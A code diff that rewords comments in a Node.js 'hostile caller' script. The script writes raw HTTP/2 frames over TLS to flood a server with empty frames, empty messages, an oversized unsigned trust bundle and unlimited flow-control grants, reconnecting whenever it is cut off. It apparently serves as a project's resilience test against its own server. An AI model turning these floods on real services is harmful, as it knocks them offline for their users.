@@ -1,6 +1,6 @@
-// A hostile caller: `node flood.cjs ATTACK ADDRESS FOLDER SECONDS`, with ca, cert and key in FOLDER. It
-// writes HTTP/2 frames by itself, so that no library of ours or of others holds it back, comes back when it
-// is cut off, and says in the end what it managed.
+// A hostile caller: `node flood.cjs ATTACK ADDRESS FOLDER SECONDS`, with ca, cert and key in FOLDER. It writes
+// HTTP/2 frames itself, so that no library limits it. It reconnects when it is cut off, and reports at the end what
+// it achieved.
 const { readFileSync } = require('node:fs');
 const tls = require('node:tls');
 const zlib = require('node:zlib');
@@ -70,7 +70,7 @@ const callFrame = (method, id = 1) => {
   ]);
   return Buffer.from([10, inner.length, ...inner]);
 };
-/** A trust bundle as large as is read, that nobody signed. */
+/** A trust bundle of the largest readable size, which nobody signed. */
 const bundle = () => {
   const signed = Buffer.from(`{"payload":"${'A'.repeat((6 << 20) - 100)}","signatures":[]}`);
   const request = Buffer.concat([Buffer.from([10, ...varint(signed.length)]), signed]);
@@ -92,10 +92,10 @@ const bundle = () => {
 };
 const many = (count, bytes) => Buffer.concat(Array.from({ length: count }, () => bytes));
 const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)]);
-/** So much of everybody's flow control is granted that no answer waits. */
+/** Grants so much flow control that no answer waits. */
 const noFlowControl = frame(8, 0, 0, Buffer.from([0x7f, 0, 0, 0]));
 
-/** `first` opens; `more(turn)` comes again and again. Streams have odd numbers. */
+/** `first` opens the connection; `more(turn)` is sent again and again. Streams have odd numbers. */
 const attacks = {
   'empty-frames': { first: open(1), more: () => data(1, message(many(400_000, Buffer.from([10, 0])))) },
   'empty-messages': { first: open(1), more: () => data(1, many(50_000, Buffer.alloc(5))) },
